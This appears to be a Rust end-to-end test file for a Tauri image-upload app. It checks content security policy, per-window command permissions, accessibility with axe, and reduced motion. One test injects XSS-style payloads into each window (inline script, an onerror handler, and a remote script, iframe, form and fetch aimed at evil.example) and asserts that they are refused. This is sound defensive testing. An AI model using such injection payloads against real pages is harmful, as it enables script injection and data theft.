//! What holds in every window whatever is shown there: whose scripts run, what may be asked of the engine, and that nobody is kept out.

use std::collections::BTreeSet;
use std::fs;

use imagepic_tests::desktop::root;
use imagepic_tests::web::Session;
use imagepic_tests::{Desktop, Setup, display, pictures};
use serde_json::{Value, json};

use crate::hands::{click, until};
use crate::steps::{drop_on_zone, links_on_clipboard, picture_files, set};

const WINDOWS: [&str; 4] = ["drop-zone", "library", "settings", "welcome"];

/// The commands a window may ask for, and those that others may.
fn commands(window: &str) -> (BTreeSet<String>, BTreeSet<String>) {
    let read = |folder: &str| {
        let files = fs::read_dir(root().join("src-tauri").join(folder)).expect("it is ours").flatten();
        files.map(|file| fs::read_to_string(file.path()).expect("it is ours")).collect::<Vec<_>>()
    };
    let granted: Vec<Value> = read("capabilities").iter().map(|text| serde_json::from_str(text).expect("JSON")).collect();
    let has = |permission: &str| {
        let holds = |list: &Value, what: &str| list.as_array().is_some_and(|all| all.iter().any(|one| one == what));
        granted.iter().any(|one| holds(&one["windows"], window) && holds(&one["permissions"], permission))
    };
    let (mut own, mut others) = (BTreeSet::new(), BTreeSet::new());
    for text in read("permissions") {
        for part in text.split("[[permission]]").skip(1) {
            let quoted = |text: &str| text.split('"').skip(1).step_by(2).map(str::to_owned).collect::<Vec<_>>();
            let name = quoted(part.split("identifier").nth(1).expect("a name")).swap_remove(0);
            let list = part.split("commands.allow").nth(1).and_then(|rest| rest.split(']').next()).expect("a list");
            if has(&name) { &mut own } else { &mut others }.extend(quoted(list));
        }
    }
    (own.clone(), others.difference(&own).cloned().collect())
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_page_runs_no_script_but_its_own_and_asks_for_nothing_that_is_not_its_own() {
    for window in WINDOWS {
        let desktop = Desktop::start().await;
        let session = Session::start(&desktop, &["--show", window]).await;
        session.find_soon("main").await;
        // What a name that slipped through would try; the page is told of each try that is refused.
        let tries = "const done = arguments[arguments.length - 1]; const refused = []; \
            document.addEventListener('securitypolicyviolation', (event) => { refused.push(event.effectiveDirective); \
                if (new Set(refused).size >= 5) done(refused); }); \
            const script = document.createElement('script'); script.textContent = 'document.documentElement.dataset.broken = 1'; \
            document.body.append(script); \
            const far = document.createElement('script'); far.src = 'https://evil.example/a.js'; document.body.append(far); \
            const box = document.createElement('div'); \
            box.innerHTML = '<img src=\"data:,\" onerror=\"document.documentElement.dataset.broken = 2\">' \
                + '<img src=\"https://evil.example/a.png\"><iframe src=\"https://evil.example/\"></iframe><form action=\"https://evil.example/\"></form>'; \
            document.body.append(box); box.querySelector('form').submit(); \
            fetch('https://evil.example/').catch(() => {});";
        let refused = session.execute_async(tries, Vec::new()).await.unwrap_or_else(|why| panic!("{window}: {why}"));
        let refused: BTreeSet<_> = refused.as_array().expect("a list").iter().filter_map(Value::as_str).collect();
        assert!(["script-src-elem", "connect-src", "img-src"].iter().all(|one| refused.contains(one)), "{window}: {refused:?}");
        let left = "return [document.documentElement.dataset.broken ?? null, location.href.includes('evil')]";
        assert_eq!(session.execute(left, Vec::new()).await.expect("a page"), json!([null, false]), "{window}");

        let (own, others) = commands(window);
        assert!(own.len() > 8 && others.len() > 8, "{window}: {} and {}", own.len(), others.len());
        let mut asked: Vec<_> = others.into_iter().collect();
        asked.extend(
            [
                "plugin:window|close",
                "plugin:webview|create_webview_window",
                "plugin:event|emit",
                "plugin:path|resolve_directory",
                "plugin:app|version",
            ]
            .map(str::to_owned),
        );
        let ask = "const [commands, done] = arguments; Promise.all(commands.map((command) => \
            window.__TAURI_INTERNALS__.invoke(command, {}).then(() => `${command}: answered`, (why) => `${command}: ${JSON.stringify(why)}`))).then(done)";
        let said = session.execute_async(ask, vec![json!(asked)]).await.expect("a page");
        for said in said.as_array().expect("a list").iter().filter_map(Value::as_str) {
            assert!(said.contains("not allowed"), "{window} was not refused: {said}");
        }
        assert_eq!(fs::read_dir(desktop.home().join("spool")).map_or(0, Iterator::count), 0);
        session.close().await;
    }
}

/// What axe finds in the page as it stands, and whether it is wider than its window.
async fn hindered(session: &Session, where_: &str) {
    let axe = root().join("ui/node_modules/axe-core/axe.min.js");
    let axe = fs::read_to_string(axe).expect("npm ci, in ui/, brings axe");
    session.execute(&axe, Vec::new()).await.expect("axe is there");
    let run = "const done = arguments[arguments.length - 1]; \
        axe.run({ resultTypes: ['violations'] }).then(({ violations }) => \
            done(violations.map(({ id, nodes }) => `${id}: ${nodes.map((node) => `${node.target} ${node.failureSummary}`).join(' | ')}`)), (why) => done([String(why)]))";
    let found = session.execute_async(run, Vec::new()).await.expect("axe answers");
    assert_eq!(found, json!([]), "{where_}");
    let wide = session.execute("return document.documentElement.scrollWidth - innerWidth", Vec::new()).await.expect("a page");
    assert!(wide.as_f64().is_some_and(|wide| wide <= 0.0), "{where_} is {wide} px wider than its window");
}

/// In both languages, light and dark, at 100 % and at 200 %: each once.
const DRESSES: [(&str, &str, u32); 2] = [("en", "light", 2), ("zh-CN", "dark", 1)];

async fn dressed((language, theme, scale): (&str, &str, u32), first_start: bool) -> Desktop {
    let desktop = Desktop::with(&Setup { first_start, scale, ..Setup::default() }).await;
    set(&desktop, "general.language", language);
    set(&desktop, "general.theme", theme);
    desktop
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn nothing_hinders_anybody_in_the_settings_and_the_welcome() {
    for dress in DRESSES {
        let desktop = dressed(dress, false).await;
        let session = Session::start(&desktop, &["--show", "settings"]).await;
        session.find_soon(&format!("html[data-theme={}]", dress.1)).await;
        let scale = session.execute("return devicePixelRatio", Vec::new()).await.expect("a page");
        assert_eq!(scale.as_f64(), Some(f64::from(dress.2)));
        for pane in 1..=6 {
            click(&session, &format!(".nav li:nth-child({pane}) button")).await;
            hindered(&session, &format!("settings, pane {pane}, {dress:?}")).await;
        }
        click(&session, ".nav li:nth-child(1) button").await;
        click(&session, ".dests > .btn").await;
        session.find_soon("#field-secret").await;
        hindered(&session, &format!("settings, a new destination, {dress:?}")).await;
        session.close().await;

        let desktop = dressed(dress, true).await;
        let session = Session::start(&desktop, &["--show", "welcome"]).await;
        session.find_soon("input[value=s3]").await;
        hindered(&session, &format!("welcome, {dress:?}")).await;
        session.execute("document.querySelector('input[value=s3]').click()", Vec::new()).await.expect("a choice");
        click(&session, ".foot .primary").await;
        session.find_soon("#field-endpoint").await;
        hindered(&session, &format!("welcome, keys, {dress:?}")).await;
        session.close().await;
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn nothing_hinders_anybody_in_the_drop_zone_and_the_library() {
    for dress in DRESSES {
        let desktop = dressed(dress, false).await;
        let session = Session::start(&desktop, &["--show", "drop-zone"]).await;
        session.find_soon(".dz-foot .where").await;
        hindered(&session, &format!("drop zone, {dress:?}")).await;
        let mut files: Vec<_> = picture_files(&desktop, "shot", 3, 60).into_iter().map(|(path, _)| path).collect();
        drop_on_zone(&desktop, &files).await;
        links_on_clipboard(&desktop, 3).await;
        session.find_soon(".four .thumb").await;
        hindered(&session, &format!("drop zone, done, {dress:?}")).await;
        files.push(desktop.file("notes.txt", b"these are notes"));
        drop_on_zone(&desktop, &files[2..]).await;
        session.find_soon(".rows .bad").await;
        hindered(&session, &format!("drop zone, one refused, {dress:?}")).await;
        session.close().await;
        desktop.app_ends().await;

        let session = Session::start(&desktop, &["--show", "library"]).await;
        until(
            &session,
            "its pictures",
            "[...document.querySelectorAll('.tile img')].filter((one) => one.naturalWidth > 0).length >= 3",
        )
        .await;
        hindered(&session, &format!("library, {dress:?}")).await;
        session
            .execute("document.querySelector('.seg.icons label:nth-child(2) input').click()", Vec::new())
            .await
            .expect("a script");
        session.find_soon(".line").await;
        hindered(&session, &format!("library, lines, {dress:?}")).await;
        let there = "location.hash = '#buckets/this-computer/images/'; dispatchEvent(new PopStateEvent('popstate'))";
        session.execute(there, Vec::new()).await.expect("a script");
        session.find_soon(".bucket-content .cell").await;
        click(&session, ".bucket-content .cell").await;
        hindered(&session, &format!("a bucket, {dress:?}")).await;
        session.close().await;
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn where_the_desktop_wants_less_motion_nothing_moves() {
    for still in [false, true] {
        let desktop = Desktop::start().await;
        let config = desktop.machine.dir().join("home/.config/gtk-3.0");
        fs::create_dir_all(&config).expect("ours");
        fs::write(config.join("settings.ini"), format!("[Settings]\ngtk-enable-animations={}\n", u8::from(!still)))
            .expect("ours");
        let session = Session::start(&desktop, &["--show", "drop-zone"]).await;
        session.find_soon(".dz-foot .where").await;
        until(&session, "the desktop's wish", &format!("matchMedia('(prefers-reduced-motion: reduce)').matches === {still}"))
            .await;
        // Whatever would move: each part of the page, once it has something to show.
        set(&desktop, "capture.clipboard", "ask");
        let zone = display::wait_for_window(&desktop.machine, "Drop zone").await;
        let paths: Vec<_> = picture_files(&desktop, "shot", 2, 60).into_iter().map(|(path, _)| path).collect();
        drop_on_zone(&desktop, &paths).await;
        links_on_clipboard(&desktop, 2).await;
        session.find_soon(".four .thumb").await;
        let _owner = crate::steps::copy_picture(&desktop, &pictures::png(5, 40, 30)).await;
        session.find_soon(".strip").await;
        let moves = "return [...document.querySelectorAll('*')].filter((one) => { const style = getComputedStyle(one); \
                     return style.transitionDuration.split(', ').some((time) => parseFloat(time) > 0) || style.animationName !== 'none'; }).length";
        let moves = session.execute(moves, Vec::new()).await.expect("a page").as_u64().expect("a number");
        assert_eq!(moves == 0, still, "{moves} parts of the page move");
        display::close(&desktop.machine, &zone);
        session.close().await;
    }
}
